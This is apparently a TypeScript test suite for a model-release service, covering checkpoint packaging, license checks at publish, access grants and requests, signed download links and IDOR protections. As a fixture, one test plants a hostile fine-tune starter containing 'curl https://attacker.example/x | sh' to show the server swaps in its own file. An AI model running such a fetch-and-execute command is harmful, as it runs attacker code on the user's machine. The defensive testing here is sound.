// Releases on a real database: a checkpoint becomes a draft with exactly the files a fine-tuner needs, the
// license is checked against the training data, and who may download is decided by the policy for every
// combination of role, release policy and standing, with real requests, grants and terms.
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { Readable } from "node:stream";
import { db } from "../../lib/db/client";
import { VERSION } from "../../lib/version";
import { setEnv } from "../../lib/env";
import { ZCreateRelease, ZDecide, ZPublish, ZRequestAccess, ZUpdateRelease } from "../../lib/schemas/release";
import { acceptTerms, decideRequests, grantUser, listNotifications, listRequests, requestAccess, revokeGrant } from "../../lib/services/releases/access-requests";
import { createRelease, publishRelease, updateRelease } from "../../lib/services/releases/create-release";
import { getRelease, listReleases, releaseStats } from "../../lib/services/releases/read-releases";
import { signLink } from "../../lib/releases/download-links";
import { versionLineage } from "../../lib/services/datasets/version-lineage";
import { GET as listRoute } from "../../app/api/v1/releases/route";
import { createDownloadLink, openLinkedFile, openReleaseFile } from "../../lib/services/releases/release-downloads";
import { makeCheckpoint, safetensors } from "../support/checkpoints";
import { makeUser } from "../support/factories";
import { makeRun } from "../support/runs";

type Who = Awaited<ReturnType<typeof makeUser>>;
let n = 0;

async function draft(owner: Who, opts: { policy?: "OPEN" | "GATED" | "PRIVATE"; license?: string; dataset?: string; terms?: string } = {}) {
  const run = await makeRun(owner.ctx, { gpus: 0, datasetMix: [{ dataset: opts.dataset ?? "totalsegmentator-v2", weight: 1 }] });
  await makeCheckpoint(run.id, 10);
  const r = await createRelease(owner.ctx, ZCreateRelease.parse({ runId: run.id, step: 10, name: `ct-encoder-${n++}-${run.id.slice(-6)}`, version: "1.0.0", license: opts.license ?? "CC BY 4.0", policy: opts.policy ?? "GATED", terms: opts.terms ?? "Research use; cite the datasets." }));
  return { run, r };
}

async function published(owner: Who, opts: Parameters<typeof draft>[1] = {}) {
  const d = await draft(owner, opts);
  await publishRelease(owner.ctx, d.r.id, ZPublish.parse({}));
  return d;
}

const read = (s: Readable | null) =>
  new Promise<Buffer>((resolve, reject) => {
    if (!s) return resolve(Buffer.alloc(0));
    const parts: Buffer[] = [];
    s.on("data", (c) => parts.push(c as Buffer)).on("end", () => resolve(Buffer.concat(parts))).on("error", reject);
  });

const request = (releaseId: string, who: Who, termsVersion = "1") =>
  requestAccess(who.ctx, releaseId, ZRequestAccess.parse({ institution: "University Hospital", role: "radiologist", intendedUse: "fine-tune for liver lesion segmentation", acceptTerms: true, termsVersion }));

describe("a release from a checkpoint", () => {
  it("takes the weights, config, preprocessing contract and starter (never optimizer state), hashed, with a model card", async () => {
    const owner = await makeUser("RESEARCHER");
    const { r, run } = await draft(owner);
    const got = await getRelease(owner.actor, r.id);
    expect(got.files.map((f) => [f.path, f.kind])).toEqual([["config.json", "config"], ["finetune_starter.py", "code"], ["model.safetensors", "weights"], ["preprocessing.json", "preprocessing"], ["README.md", "card"]]);
    const weights = await openReleaseFile(owner.ctx, r.id, "model.safetensors", null);
    const bytes = await read(weights.stream);
    expect(bytes.equals(safetensors({ "encoder.w": [1, 2, 3, 4], "decoder.w": [5, 6] }))).toBe(true);
    expect(got.files.find((f) => f.path === "model.safetensors")?.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
    expect(got.inputContract).toEqual({ orientation: "RAS", spacing_mm: [1.5, 1.5, 1.5], hu_window: [-1000, 1000] });
    expect(got.card).toMatch(/^---\nlicense: "CC BY 4.0"\n[\s\S]*datasets:\n {2}- "totalsegmentator-v2@test"\n---/);
    expect(got.card).toMatch(/## Out of scope\n\n- Clinical decision-making/);
    expect(got).toMatchObject({ status: "DRAFT", runId: run.id, checkpointStep: 10, datasets: [{ dataset: "totalsegmentator-v2", version: "test" }] });
    await expect(openReleaseFile(owner.ctx, r.id, "optimizer.safetensors", null)).rejects.toMatchObject({ status: 404 });
  });

  it("refuses another person's run, a taken name@version, and weights that aren't safetensors", async () => {
    const owner = await makeUser("RESEARCHER");
    const other = await makeUser("RESEARCHER");
    const { r, run } = await draft(owner);
    await expect(createRelease(other.ctx, ZCreateRelease.parse({ runId: run.id, step: 10, name: "stolen", version: "1.0.0", license: "MIT" }))).rejects.toMatchObject({ action: "release:write" });
    await expect(createRelease(owner.ctx, ZCreateRelease.parse({ runId: run.id, step: 10, name: r.name, version: "1.0.0", license: "MIT" }))).rejects.toMatchObject({ status: 409, errors: [{ field: "version" }] });
    const pickled = await makeRun(owner.ctx, { gpus: 0 });
    // A pickle where the weights should be: refused without being loaded.
    await makeCheckpoint(pickled.id, 1, { weights: Buffer.from("\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s.", "latin1") });
    await expect(createRelease(owner.ctx, ZCreateRelease.parse({ runId: pickled.id, step: 1, name: `p-${pickled.id.slice(-6)}`, version: "1.0.0", license: "MIT" }))).rejects.toMatchObject({ status: 409, message: expect.stringMatching(/not a safetensors file/) });
  });
});

describe("the fine-tune starter", () => {
  it("is the server's own copy, recorded by version and sha256, whatever starter the checkpoint's tar carries (or none)", async () => {
    const owner = await makeUser("RESEARCHER");
    const reader = await makeUser("CLINICIAN");
    const server = readFileSync(path.resolve(import.meta.dirname, "../../workers/trainer/finetune_starter.py"));
    const serverSha = createHash("sha256").update(server).digest("hex");
    const hostile = Buffer.from("import os\nos.system('curl https://attacker.example/x | sh')\n");
    for (const starter of [hostile, null]) {
      const run = await makeRun(owner.ctx, { gpus: 0 });
      await makeCheckpoint(run.id, 3, { starter });
      const r = await createRelease(owner.ctx, ZCreateRelease.parse({ runId: run.id, step: 3, name: `starter-${n++}-${run.id.slice(-6)}`, version: "1.0.0", license: "CC BY 4.0", policy: "OPEN", terms: "" }));
      await publishRelease(owner.ctx, r.id, ZPublish.parse({}));
      const got = await getRelease(reader.actor, r.id);
      expect(got.starter).toEqual({ version: VERSION, sha256: serverSha });
      expect(got.files.find((f) => f.path === "finetune_starter.py")).toEqual({ path: "finetune_starter.py", kind: "code", bytes: server.length, sha256: serverSha });
      // What another user downloads is the server's file, byte for byte.
      const bytes = await read((await openReleaseFile(reader.ctx, r.id, "finetune_starter.py", null)).stream);
      expect(bytes.equals(server)).toBe(true);
      expect(bytes.includes("attacker.example")).toBe(false);
      expect(got.card).toContain(`\`finetune_starter.py\` is the fine-tuning starter of Hounsfield ${VERSION} (sha256 \`${serverSha}\`)`);
      const audit = await db.auditEvent.findFirstOrThrow({ where: { action: "release.create", targetId: r.id } });
      expect(audit.details).toMatchObject({ starter: { version: VERSION, sha256: serverSha } });
    }
  });
});

describe("the license check at publish", () => {
  it("refuses a commercial license for weights trained on non-commercial data, unless an admin overrides with a reason", async () => {
    const owner = await makeUser("RESEARCHER");
    const admin = await makeUser("ADMIN");
    const { r } = await draft(owner, { dataset: "ct-rate", license: "Apache-2.0" });
    await expect(publishRelease(owner.ctx, r.id, ZPublish.parse({}))).rejects.toMatchObject({ status: 409, message: expect.stringMatching(/CT-RATE.*forbids commercial use/) });
    await expect(publishRelease(owner.ctx, r.id, ZPublish.parse({ licenseOverride: "we asked" }))).rejects.toMatchObject({ status: 409, errors: [{ field: "licenseOverride" }] });
    const out = await publishRelease(admin.ctx, r.id, ZPublish.parse({ licenseOverride: "written permission from the dataset's authors, 2026-11-02" }));
    expect(out).toMatchObject({ status: "PUBLISHED", licenseOverride: "written permission from the dataset's authors, 2026-11-02" });
    const nc = await draft(owner, { dataset: "ct-rate", license: "CC BY-NC-SA 4.0" });
    expect((await publishRelease(owner.ctx, nc.r.id, ZPublish.parse({}))).status).toBe("PUBLISHED");
    // Published: its card and license are fixed.
    await expect(updateRelease(owner.ctx, nc.r.id, ZUpdateRelease.parse({ license: "MIT" }))).rejects.toMatchObject({ status: 409 });
  });
});

describe("who may download", () => {
  it("every role × policy × standing, decided by the policy with real grants, requests and terms", async () => {
    const owner = await makeUser("RESEARCHER");
    const admin = await makeUser("ADMIN");
    const rows: string[] = [];
    for (const policy of ["OPEN", "GATED", "PRIVATE"] as const) {
      for (const role of ["CLINICIAN", "RESEARCHER", "ADMIN"] as const) {
        for (const standing of ["none", "pending", "approved", "denied", "expired", "revoked"] as const) {
          const { r } = await published(owner, { policy });
          const who = await makeUser(role);
          // Everyone who could accept the terms has (the terms rule is checked on its own below).
          await db.termsAcceptance.create({ data: { releaseId: r.id, userId: who.user.id, termsVersion: "1" } });
          if (standing !== "none") {
            const req = await db.accessRequest.create({ data: { releaseId: r.id, userId: who.user.id, answers: {}, termsVersion: "1", status: standing === "pending" ? "PENDING" : standing === "denied" ? "DENIED" : "APPROVED" } });
            if (["approved", "expired", "revoked"].includes(standing)) {
              await db.accessGrant.create({ data: { releaseId: r.id, userId: who.user.id, requestId: req.id, expiresAt: standing === "expired" ? new Date(Date.now() - 1000) : null, revokedAt: standing === "revoked" ? new Date() : null } });
            }
          }
          const can = await openReleaseFile(who.ctx, r.id, "model.safetensors", null).then((f) => (f.stream?.destroy(), "download"), (e) => (e.status === 404 ? "hidden" : e.status === 403 || e.action ? "refused" : `error ${e.status}`));
          // The expected access model, written out: admins always; OPEN for everyone; otherwise a live grant.
          const live = standing === "approved";
          const want = role === "ADMIN" ? "download" : policy === "OPEN" ? "download" : live ? "download" : policy === "PRIVATE" ? "hidden" : "refused";
          if (can !== want) rows.push(`${policy} ${role} ${standing}: ${can}, want ${want}`);
        }
      }
    }
    expect(rows).toEqual([]);
    void admin;
  }, 120_000);

  it("a request is approved by an admin (notified both ways); the grant downloads, expires and is revoked at once; a denied person may apply again", async () => {
    const owner = await makeUser("RESEARCHER");
    const admin = await makeUser("ADMIN");
    const clinician = await makeUser("CLINICIAN");
    const { r } = await published(owner);
    await expect(openReleaseFile(clinician.ctx, r.id, "model.safetensors", null)).rejects.toMatchObject({ action: "release:download" });
    const req = await request(r.id, clinician);
    expect(req.status).toBe("PENDING");
    await expect(request(r.id, clinician)).rejects.toMatchObject({ status: 409 });
    expect((await listNotifications(admin.actor)).notifications[0]).toMatchObject({ kind: "access.requested", link: "/admin/access" });
    // Only admins decide, and nobody sees other people's requests but them.
    await expect(decideRequests(clinician.ctx, ZDecide.parse({ ids: [req.id], approve: true }))).rejects.toMatchObject({ action: "access:decide" });
    expect((await listRequests(owner.actor, {})).some((x) => x.id === req.id)).toBe(false);
    expect((await listRequests(admin.actor, { status: "PENDING" })).some((x) => x.id === req.id)).toBe(true);
    await decideRequests(admin.ctx, ZDecide.parse({ ids: [req.id], approve: true, reason: "fine", expiresInDays: 30 }));
    expect((await listNotifications(clinician.actor)).notifications[0]).toMatchObject({ kind: "access.approved" });
    const f = await openReleaseFile({ actor: clinician.actor, ip: "192.0.2.9" }, r.id, "model.safetensors", null);
    const bytes = await read(f.stream);
    expect(createHash("sha256").update(bytes).digest("hex")).toBe(f.sha256);
    const audit = await db.download.findFirstOrThrow({ where: { userId: clinician.user.id }, orderBy: { createdAt: "desc" } });
    expect(audit).toMatchObject({ sha256: f.sha256, bytes: BigInt(bytes.length), ip: "192.0.2.9", rangeStart: null });
    expect((await getRelease(owner.actor, r.id)).downloads).toBe(1);
    // Config fetches are not downloads of the model.
    await read((await openReleaseFile(clinician.ctx, r.id, "config.json", null)).stream);
    expect((await getRelease(owner.actor, r.id)).downloads).toBe(1);
    const stats = await releaseStats(owner.actor, r.id);
    expect(stats).toMatchObject({ total: 1, people: 1, days: [{ day: new Date().toISOString().slice(0, 10), downloads: 1, people: 1 }] });
    await expect(releaseStats(clinician.actor, r.id)).rejects.toMatchObject({ action: "release:write" });
    const grant = (await listRequests(admin.actor, {})).find((x) => x.id === req.id)!.grant!;
    await expect(revokeGrant(owner.ctx, grant.id)).rejects.toMatchObject({ action: "access:decide" });
    await revokeGrant(admin.ctx, grant.id);
    await expect(openReleaseFile(clinician.ctx, r.id, "model.safetensors", null)).rejects.toMatchObject({ action: "release:download" });
    // Denied, then applies again.
    const other = await makeUser("CLINICIAN");
    const first = await request(r.id, other);
    await decideRequests(admin.ctx, ZDecide.parse({ ids: [first.id], approve: false, reason: "no institution email" }));
    expect((await listNotifications(other.actor)).notifications[0].text).toMatch(/denied: no institution email/);
    expect((await request(r.id, other)).status).toBe("PENDING");
  });

  it("rules approve at once; a new terms version must be accepted before the next download; ranges and bad files answer clearly", async () => {
    const owner = await makeUser("RESEARCHER");
    const clinician = await makeUser("CLINICIAN");
    const { r } = await published(owner);
    await updateRelease(owner.ctx, r.id, ZUpdateRelease.parse({ autoApprove: { roles: ["CLINICIAN"] } }));
    expect((await request(r.id, clinician)).status).toBe("APPROVED");
    const part = await openReleaseFile(clinician.ctx, r.id, "model.safetensors", { from: 8, end: 17 });
    expect((await read(part.stream)).length).toBe(10);
    await expect(openReleaseFile(clinician.ctx, r.id, "model.safetensors", { from: 10_000_000 })).rejects.toMatchObject({ status: 416 });
    await expect(openReleaseFile(clinician.ctx, r.id, "nope.bin", null)).rejects.toMatchObject({ status: 404 });
    const changed = await updateRelease(owner.ctx, r.id, ZUpdateRelease.parse({ terms: "Research use only; no clinical use; cite." }));
    expect(changed.termsVersion).toBe("2");
    await expect(openReleaseFile(clinician.ctx, r.id, "model.safetensors", null)).rejects.toMatchObject({ status: 403, title: "Terms not accepted" });
    await expect(acceptTerms(clinician.ctx, r.id, "1")).rejects.toMatchObject({ status: 409 });
    await acceptTerms(clinician.ctx, r.id, "2");
    await read((await openReleaseFile(clinician.ctx, r.id, "model.safetensors", null)).stream);
  });

  it("a PRIVATE release is seen only by the people named on it; drafts only by their owner and admins", async () => {
    const owner = await makeUser("RESEARCHER");
    const named = await makeUser("CLINICIAN");
    const stranger = await makeUser("RESEARCHER");
    const { r } = await published(owner, { policy: "PRIVATE" });
    const d = await draft(owner);
    expect((await listReleases(stranger.actor)).map((x) => x.id)).not.toContain(r.id);
    expect((await listReleases(stranger.actor)).map((x) => x.id)).not.toContain(d.r.id);
    await expect(getRelease(stranger.actor, r.id)).rejects.toMatchObject({ status: 404 });
    await expect(request(r.id, stranger)).rejects.toMatchObject({ status: 404 });
    await expect(grantUser(stranger.ctx, r.id, { email: stranger.user.email })).rejects.toMatchObject({ status: 404 });
    await grantUser(owner.ctx, r.id, { email: named.user.email });
    await acceptTerms(named.ctx, r.id, "1");
    expect((await getRelease(named.actor, r.id)).access).toMatchObject({ canDownload: true, grant: "active" });
  });
});

describe("short-lived download links", () => {
  it("work without a token for the person they name, refuse tampering, expire, and stop when the grant is revoked", async () => {
    const owner = await makeUser("RESEARCHER");
    const admin = await makeUser("ADMIN");
    const clinician = await makeUser("CLINICIAN");
    const { r } = await published(owner);
    await expect(createDownloadLink(clinician.ctx, r.id, "model.safetensors")).rejects.toMatchObject({ action: "release:download" });
    const req = await request(r.id, clinician);
    await decideRequests(admin.ctx, ZDecide.parse({ ids: [req.id], approve: true }));
    const link = await createDownloadLink(clinician.ctx, r.id, "model.safetensors");
    const token = link.url.split("/").pop()!;
    const f = await openLinkedFile(token, "198.51.100.1", null);
    expect(createHash("sha256").update(await read(f.stream)).digest("hex")).toBe(f.sha256);
    expect(await db.download.count({ where: { userId: clinician.user.id, ip: "198.51.100.1" } })).toBe(1);
    // Another file, another release or another person: the signature no longer fits.
    const [payload, sig] = token.split(".");
    const swapped = Buffer.from(JSON.stringify(JSON.parse(Buffer.from(payload, "base64url").toString()).map((x: unknown, i: number) => (i === 1 ? "config.json" : x)))).toString("base64url");
    await expect(openLinkedFile(`${swapped}.${sig}`, null, null)).rejects.toMatchObject({ status: 403 });
    await expect(openLinkedFile(`${payload}.${sig.slice(0, -2)}AA`, null, null)).rejects.toMatchObject({ status: 403 });
    await expect(openLinkedFile("not-a-link", null, null)).rejects.toMatchObject({ status: 403 });
    const old = signLink({ releaseId: r.id, path: "model.safetensors", userId: clinician.user.id, exp: Math.floor(Date.now() / 1000) - 1 });
    await expect(openLinkedFile(old, null, null)).rejects.toMatchObject({ status: 410 });
    // The link names the person; their access is checked when it is used.
    const grant = (await listRequests(admin.actor, {})).find((x) => x.id === req.id)!.grant!;
    await revokeGrant(admin.ctx, grant.id);
    await expect(openLinkedFile(token, null, null)).rejects.toMatchObject({ action: "release:download" });
  });
});

describe("request and grant ids of other people (IDOR)", () => {
  it("a second requester can't decide, revoke or list the first one's request or grant, even mixed with their own", async () => {
    const owner = await makeUser("RESEARCHER");
    const admin = await makeUser("ADMIN");
    const [a, b] = [await makeUser("CLINICIAN"), await makeUser("RESEARCHER")];
    const { r } = await published(owner);
    const [reqA, reqB] = [await request(r.id, a), await request(r.id, b)];
    const readOnlyAdmin = { actor: { ...admin.actor, token: { id: "t-read", scopes: ["read" as const] } }, ip: null };
    for (const who of [b.ctx, owner.ctx, readOnlyAdmin]) {
      await expect(decideRequests(who, ZDecide.parse({ ids: [reqA.id], approve: true }))).rejects.toMatchObject({ action: "access:decide" });
      await expect(decideRequests(who, ZDecide.parse({ ids: [reqB.id, reqA.id], approve: true }))).rejects.toMatchObject({ action: "access:decide" });
    }
    expect((await db.accessRequest.findMany({ where: { id: { in: [reqA.id, reqB.id] } } })).map((x) => x.status)).toEqual(["PENDING", "PENDING"]);
    expect((await listRequests(b.actor, {})).map((x) => x.id)).toEqual([reqB.id]);
    expect((await listRequests(b.actor, { mine: "false" } as never)).map((x) => x.id)).toEqual([reqB.id]);

    await decideRequests(admin.ctx, ZDecide.parse({ ids: [reqA.id, reqB.id], approve: true }));
    const grants = await db.accessGrant.findMany({ where: { releaseId: r.id }, orderBy: { createdAt: "asc" } });
    const grantA = grants.find((g) => g.userId === a.user.id)!;
    for (const who of [b.ctx, a.ctx, owner.ctx, readOnlyAdmin]) await expect(revokeGrant(who, grantA.id)).rejects.toMatchObject({ action: "access:decide" });
    expect((await db.accessGrant.findUniqueOrThrow({ where: { id: grantA.id } })).revokedAt).toBeNull();
    // B's grant opens B's downloads only: A's file access is A's own grant, untouched.
    const f = await openReleaseFile(a.ctx, r.id, "model.safetensors", null);
    f.stream?.destroy();
  });
});

describe("the public release index (PUBLIC_RELEASES=index)", () => {
  it("visitors see published OPEN and GATED releases, never PRIVATE ones or drafts, and download nothing; off by default", async () => {
    const owner = await makeUser("RESEARCHER");
    const [open, gated, priv] = [await published(owner, { policy: "OPEN" }), await published(owner, { policy: "GATED" }), await published(owner, { policy: "PRIVATE" })];
    const drafted = await draft(owner, { policy: "OPEN" });
    const visitor = { kind: "anonymous" } as const;
    await expect(listReleases(visitor)).rejects.toThrow(/Sign in/);
    await expect(getRelease(visitor, open.r.id)).rejects.toThrow(/Sign in/);
    setEnv({ PUBLIC_RELEASES: "index" });
    try {
      const listed = (await listReleases(visitor)).map((x) => x.id);
      expect(listed).toEqual(expect.arrayContaining([open.r.id, gated.r.id]));
      expect(listed).not.toContain(priv.r.id);
      expect(listed).not.toContain(drafted.r.id);
      const page = await getRelease(visitor, gated.r.id);
      expect(page.access.canDownload).toBe(false);
      expect(page.card).toContain("license:");
      await expect(getRelease(visitor, priv.r.id)).rejects.toMatchObject({ status: 404 });
      await expect(getRelease(visitor, drafted.r.id)).rejects.toMatchObject({ status: 404 });
      for (const id of [open.r.id, gated.r.id]) await expect(openReleaseFile({ actor: visitor, ip: null }, id, "model.safetensors", null)).rejects.toThrow(/Sign in/);
      await expect(requestAccess({ actor: visitor, ip: null }, gated.r.id, ZRequestAccess.parse({ institution: "x", role: "y", intendedUse: "a long enough use", acceptTerms: true, termsVersion: "1" }))).rejects.toThrow(/Sign in/);
      // Who made it stays inside the team.
      expect(page.createdBy).toBe("");
      expect((await getRelease(owner.actor, gated.r.id)).createdBy).toBe(owner.user.email);
      // Through the route: no credentials is a visitor; credentials that don't hold are a 401, not the visitor's view.
      const list = (headers: Record<string, string>) => listRoute(new Request("http://localhost/api/v1/releases", { headers }), { params: Promise.resolve({}) });
      expect((await list({})).status).toBe(200);
      expect(((await (await list({})).json()) as { releases: { createdBy: string }[] }).releases.every((x) => x.createdBy === "")).toBe(true);
      expect((await list({ authorization: "Bearer hfk_not-a-live-token" })).status).toBe(401);
    } finally {
      setEnv({ PUBLIC_RELEASES: "none" });
    }
  });
});

describe("lineage from a dataset version", () => {
  it("lists the runs that trained on it (to those who read runs) and their releases (as the release policy allows)", async () => {
    const owner = await makeUser("RESEARCHER");
    const [open, priv] = [await published(owner, { policy: "OPEN" }), await published(owner, { policy: "PRIVATE" })];
    const versionId = (open.run.datasetMix as { versionId: string }[])[0].versionId;
    expect((priv.run.datasetMix as { versionId: string }[])[0].versionId).toBe(versionId);
    const researcher = await makeUser("RESEARCHER");
    const clinician = await makeUser("CLINICIAN");
    const seen = await versionLineage(researcher.actor, versionId);
    expect(seen.runs.map((r) => r.id)).toEqual(expect.arrayContaining([open.run.id, priv.run.id]));
    expect(seen.releases.map((r) => r.id)).toContain(open.r.id);
    expect(seen.releases.map((r) => r.id)).not.toContain(priv.r.id);
    const theirs = await versionLineage(clinician.actor, versionId);
    expect(theirs.runs).toEqual([]);
    expect(theirs.releases.map((r) => r.id)).toContain(open.r.id);
    expect((await versionLineage(owner.actor, versionId)).releases.map((r) => r.id)).toEqual(expect.arrayContaining([open.r.id, priv.r.id]));
  });
});

describe("ranges that can't be served", () => {
  it("a range that ends before it starts, or starts past the end, is a 416 with the file's size, not a 500", async () => {
    const owner = await makeUser("RESEARCHER");
    const { r } = await published(owner, { policy: "OPEN", terms: "" });
    const size = Number((await db.releaseFile.findFirstOrThrow({ where: { releaseId: r.id, path: "model.safetensors" } })).bytes);
    for (const range of [{ from: 20, end: 10 }, { from: size + 5 }, { from: 3, end: 1 }]) {
      await expect(openReleaseFile(owner.ctx, r.id, "model.safetensors", range)).rejects.toMatchObject({ status: 416, headers: { "Content-Range": `bytes */${size}` } });
    }
    await expect(openReleaseFile(owner.ctx, r.id, "README.md", { from: 9, end: 2 })).rejects.toMatchObject({ status: 416 });
    const ok = await openReleaseFile(owner.ctx, r.id, "model.safetensors", { from: 2, end: 5 });
    expect((await read(ok.stream)).length).toBe(4);
  });
});
